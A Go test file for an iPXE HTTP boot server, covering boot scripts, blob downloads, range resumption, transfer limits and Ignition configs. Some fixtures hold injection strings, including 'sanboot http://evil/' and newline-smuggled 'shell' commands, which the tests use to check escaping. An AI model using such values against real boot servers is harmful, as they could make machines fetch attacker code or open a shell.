package httpboot

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"flag"
	"io"
	"io/fs"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/imagectl/imagectl/pxe/boot"
)

var update = flag.Bool("update", false, "rewrite testdata")

var (
	at     = netip.MustParseAddrPort("10.0.0.1:8080")
	kernel = blob("flatcar_production_pxe.vmlinuz", "the kernel")
	initrd = blob("flatcar_production_pxe_image.cpio.gz", "the initrd")
	nbp    = blob("snponly.efi", "a program")
	secret = blob("secret", "not in the catalog")
)

func blob(name, content string) boot.Blob {
	sum := sha256.Sum256([]byte(content))
	return boot.Blob{Name: name, SHA256: hex.EncodeToString(sum[:]), Size: int64(len(content))}
}

// fakeSource answers by serial number.
type fakeSource map[string]boot.Answer

func (f fakeSource) Decide(m boot.Machine) boot.Answer { return f[m.Serial] }

func (f fakeSource) Ignition(m boot.Machine) ([]byte, error) {
	if m.Serial == "broken" {
		return nil, errors.New("no such template")
	}
	return []byte(`{"ignition":{"version":"3.4.0"}}`), nil
}

func (f fakeSource) Blob(sha string) (boot.Blob, bool) {
	for _, b := range []boot.Blob{kernel, initrd, nbp} {
		if b.SHA256 == sha {
			return b, true
		}
	}
	return boot.Blob{}, false
}

func answers() fakeSource {
	install := boot.Answer{Action: boot.Install, Name: "cp1", Code: "armed", Reason: "it is armed", Kernel: kernel, Initrd: []boot.Blob{initrd},
		Args: []string{"flatcar.first_boot=1", "console=ttyS0,115200n8"}}
	// configured brings its Ignition config along.
	configured := install
	configured.Initrd, configured.Configured = []boot.Blob{initrd, nbp}, true
	run := configured
	run.Action, run.Name, run.Code, run.Reason = boot.Run, "w1", "diskless", "it is diskless and runs in its memory"
	discover := install
	discover.Action, discover.Name, discover.Code, discover.Reason = boot.Discover, "", "unknown-machine", "it is not in cluster.yaml"
	local := boot.Answer{Action: boot.Local, Name: "cp1", Code: "not-armed", Reason: "it is not armed", LocalBoot: "exit"}
	sanboot, poweroff := local, local
	sanboot.LocalBoot, poweroff.LocalBoot = "sanboot", "poweroff"
	told := local
	told.Code, told.Reason, told.Refused, told.Told = "no-image", "its processor is arm64", true, true
	hostile := local
	hostile.Reason = "it says \"x\" || sanboot http://evil/ ; ${net0/mac} `a` \\ # é\nshell"
	return fakeSource{
		"configured": configured, "run": run, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "no-image": told, "hostile": hostile,
		"none":                      {Action: boot.None, Code: "conflict", Refused: true, Reason: "it shows marks of two machines"},
		`a b"&${mac}#;|%\` + "'<x>": install,
	}
}

func open(sha string) (io.ReadSeekCloser, error) {
	for _, c := range []string{"the kernel", "a program"} { // the initrd is missing
		if blob("", c).SHA256 == sha {
			return struct {
				io.ReadSeeker
				io.Closer
			}{strings.NewReader(c), io.NopCloser(nil)}, nil
		}
	}
	return nil, fs.ErrNotExist
}

func newHandler() http.Handler {
	return New(Config{Source: answers(), Open: open, Server: at})
}

func get(h http.Handler, method, target string, header ...string) *http.Response {
	r := httptest.NewRequest(method, target, nil)
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w.Result()
}

func body(t *testing.T, r *http.Response) string {
	t.Helper()
	b, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// The goldens are what iPXE runs; review their diff.
func TestScripts(t *testing.T) {
	h := newHandler()
	for _, serial := range []string{"install", "configured", "run", "discover", "exit", "sanboot", "poweroff", "none", "no-image", "hostile"} {
		t.Run(serial, func(t *testing.T) {
			r := get(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01&uuid=01020304-0506-0708-090A-0B0C0D0E0FFF&platform=efi&serial="+serial)
			got := body(t, r)
			if r.StatusCode != 200 || r.ContentLength != int64(len(got)) {
				t.Errorf("status %d, length %d of %d", r.StatusCode, r.ContentLength, len(got))
			}
			checkGolden(t, serial+".ipxe", got)
		})
	}
	checkGolden(t, "autoexec.ipxe", Autoexec("http://10.0.0.1:8080/boot.ipxe?mac=${mac}"))
}

func checkGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (go test -update rewrites it):\n%s", path, got)
	}
}

func TestClientTextNeverReachesTheScriptRaw(t *testing.T) {
	h := newHandler()
	for _, query := range []string{
		"mac=52:54:00:00:00:01&serial=" + "a%20b%22%26%24%7Bmac%7D%23%3B%7C%25%5C%27%3Cx%3E",
		"mac=52:54:00:00:00:01&serial=install%0Ashell",
		"mac=52:54:00:00:00:01%0Ashell&serial=install",
		"uuid=%0Ashell&serial=install",
	} {
		script := body(t, get(h, "GET", "/boot.ipxe?"+query))
		for _, line := range strings.Split(script, "\n") {
			if strings.HasPrefix(line, "shell") || strings.Contains(line, "${mac}") || strings.Contains(line, "<x>") || strings.Contains(line, `"`) {
				t.Errorf("%s: the script has the line %q", query, line)
			}
		}
	}
}

func TestFilesAnswerLikeFirmwareWants(t *testing.T) {
	h := newHandler()
	url := "/files/" + nbp.SHA256 + "/snponly.efi"
	etag := `"` + nbp.SHA256 + `"`
	for _, c := range []struct {
		name   string
		method string
		url    string
		header []string
		status int
		body   string
	}{
		{"whole", "GET", url, nil, 200, "a program"},
		{"quirk 37: UEFI asks for the size first", "HEAD", url, nil, 200, ""},
		{"quirk 38: UEFI resumes with If-Match", "GET", url, []string{"Range", "bytes=2-", "If-Match", etag}, 206, "program"},
		{"quirk 38: but not another file", "GET", url, []string{"Range", "bytes=2-", "If-Match", `"other"`}, 412, ""},
		{"a range behind the end", "GET", url, []string{"Range", "bytes=100-"}, 416, "invalid range: failed to overlap\n"},
		{"unchanged", "GET", url, []string{"If-None-Match", etag}, 304, ""},
		{"another name", "GET", "/files/" + nbp.SHA256 + "/x.efi", nil, 404, "there is no public file of this digest and name\n"},
		{"not in the catalog", "GET", "/files/" + secret.SHA256 + "/secret", nil, 404, "there is no public file of this digest and name\n"},
		{"in the catalog but lost", "GET", "/files/" + initrd.SHA256 + "/" + initrd.Name, nil, 404, "this file is missing on the server, see its log\n"},
		{"writing", "PUT", url, nil, 405, "Method Not Allowed\n"},
		{"health", "GET", "/healthz", nil, 200, "ok\n"},
		{"nobody", "GET", "/boot.ipxe", nil, 400, "say who boots: /boot.ipxe?mac=...&uuid=...&serial=...\n"},
		{"Ignition", "GET", "/ignition?serial=install", nil, 200, `{"ignition":{"version":"3.4.0"}}`},
		{"Ignition of a machine that is not armed", "GET", "/ignition?serial=exit", nil, 403, "not-armed: it is not armed\n"},
		{"Ignition that cannot be made", "GET", "/ignition?serial=broken", nil, 500, "there is no Ignition config for this machine, see the server's log\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := get(h, c.method, c.url, c.header...)
			if got := body(t, r); r.StatusCode != c.status || got != c.body {
				t.Errorf("got %d %q, want %d %q", r.StatusCode, got, c.status, c.body)
			}
		})
	}
	r := get(h, "HEAD", url)
	for _, c := range [][2]string{{"Content-Type", "application/efi"}, {"ETag", etag}, {"Content-Length", "9"},
		{"Accept-Ranges", "bytes"}, {"Cache-Control", "public, max-age=31536000, immutable"}} {
		if got := r.Header.Get(c[0]); got != c[1] {
			t.Errorf("%s is %q, want %q", c[0], got, c[1])
		}
	}
}

// curl is the judge: it fetches a file, and the rest of one that it has half of.
func TestCurlFetchesAndResumes(t *testing.T) {
	t.Parallel()
	s := httptest.NewServer(newHandler())
	defer s.Close()
	url := s.URL + "/files/" + kernel.SHA256 + "/" + kernel.Name
	for _, c := range []struct {
		name, half, etag string
		want             string
	}{
		{"whole", "", "", "the kernel"},
		{"resumed", "the k", kernel.SHA256, "the kernel"},
		{"resumed after it was changed", "the k", strings.Repeat("0", 64), "the k"},
	} {
		out := filepath.Join(t.TempDir(), "out")
		argv := []string{"--silent", "--show-error", "--fail", "--max-time", "300", "--output", out, url}
		if c.half != "" {
			if err := os.WriteFile(out, []byte(c.half), 0o644); err != nil {
				t.Fatal(err)
			}
			argv = append(argv, "--continue-at", "-", "--header", `If-Match: "`+c.etag+`"`)
		}
		msg, err := exec.CommandContext(t.Context(), "curl", argv...).CombinedOutput()
		if (err == nil) != (c.want == "the kernel") {
			t.Errorf("%s: %v: %s (apt-get install curl)", c.name, err, msg)
		}
		if got, err := os.ReadFile(out); err != nil || string(got) != c.want {
			t.Errorf("%s: got %q, %v, want %q", c.name, got, err, c.want)
		}
	}
}

func TestTransfersAreBounded(t *testing.T) {
	entered, release := make(chan struct{}), make(chan struct{})
	h := New(Config{Source: answers(), Server: at, Transfers: 1, Open: func(string) (io.ReadSeekCloser, error) {
		entered <- struct{}{}
		<-release
		return nil, fs.ErrNotExist
	}})
	url := "/files/" + nbp.SHA256 + "/snponly.efi"
	done := make(chan struct{})
	go func() { defer close(done); get(h, "GET", url) }()
	<-entered
	r := get(h, "GET", url)
	if r.StatusCode != 503 {
		t.Errorf("above the limit: got %d", r.StatusCode)
	}
	// All that wait are told seconds that differ, or they would come back together.
	told := map[string]int{}
	for range 200 {
		told[get(h, "GET", url).Header.Get("Retry-After")]++
	}
	if got := slices.Sorted(maps.Keys(told)); !slices.Equal(got, []string{"1", "2", "3", "4", "5"}) {
		t.Errorf("200 clients are told to come back after %q seconds, want 1 to 5", got)
	}
	if r := get(h, "GET", "/boot.ipxe?serial=exit"); r.StatusCode != 200 {
		t.Errorf("scripts wait for files: %d", r.StatusCode)
	}
	close(release)
	<-done
}

func TestOneAddressHasAQuarterOfTheTransfers(t *testing.T) {
	p := newPlaces(8, nil)
	enter := func(client string) func() {
		ok, leave := p.enter(client, time.Now())
		if !ok {
			return nil
		}
		return func() { leave(false, time.Now()) }
	}
	first, second := enter("10.0.0.7:1"), enter("10.0.0.7:2")
	if first == nil || second == nil || enter("10.0.0.7:3") != nil || enter("[::ffff:10.0.0.7]:4") != nil {
		t.Fatal("of 8 places one address shall have 2")
	}
	var others []func()
	for _, a := range []string{"10.0.0.8:1", "10.0.0.8:2", "10.0.0.9:1", "10.0.0.9:2", "[fd00::1]:1", "[fd00::2]:2"} {
		others = append(others, enter(a))
	}
	if slices.ContainsFunc(others, func(leave func()) bool { return leave == nil }) || enter("10.0.0.10:1") != nil {
		t.Error("all 8 shall be taken, and no more")
	}
	first()
	if again := enter("10.0.0.7:5"); again == nil {
		t.Error("the place that was given back is not free")
	}
	if len(p.by) != 4 || p.taken != 8 {
		t.Errorf("%d addresses have %d places", len(p.by), p.taken)
	}
}

type recorder []boot.Event

func (r *recorder) Record(e boot.Event) { *r = append(*r, e) }

func TestEventsNameTheStages(t *testing.T) {
	var rec recorder
	h := New(Config{Source: answers(), Open: open, Server: at, Recorder: &rec})
	who := "?mac=52:54:00:00:00:01&serial=install"
	get(h, "GET", "/boot.ipxe"+who)
	get(h, "GET", "/files/"+kernel.SHA256+"/"+kernel.Name+who+"&stage=kernel")
	get(h, "GET", "/ignition"+who)
	get(h, "GET", "/ignition?mac=52:54:00:00:00:01&serial=exit")
	want := []string{"script: install: it is armed (armed)", "kernel: fetches flatcar_production_pxe.vmlinuz",
		"ignition: sent the config for install", "ignition: refused: it is not armed (not-armed)"}
	for i, e := range rec {
		if got := string(e.Stage) + ": " + e.Detail; i >= len(want) || got != want[i] {
			t.Errorf("event %d is %q", i, got)
		}
		if !bytes.Equal(e.Machine.MAC, net.HardwareAddr{0x52, 0x54, 0, 0, 0, 1}) {
			t.Errorf("event %d is of %s", i, e.Machine.MAC)
		}
	}
	if len(rec) != len(want) {
		t.Errorf("%d events, want %d", len(rec), len(want))
	}
}
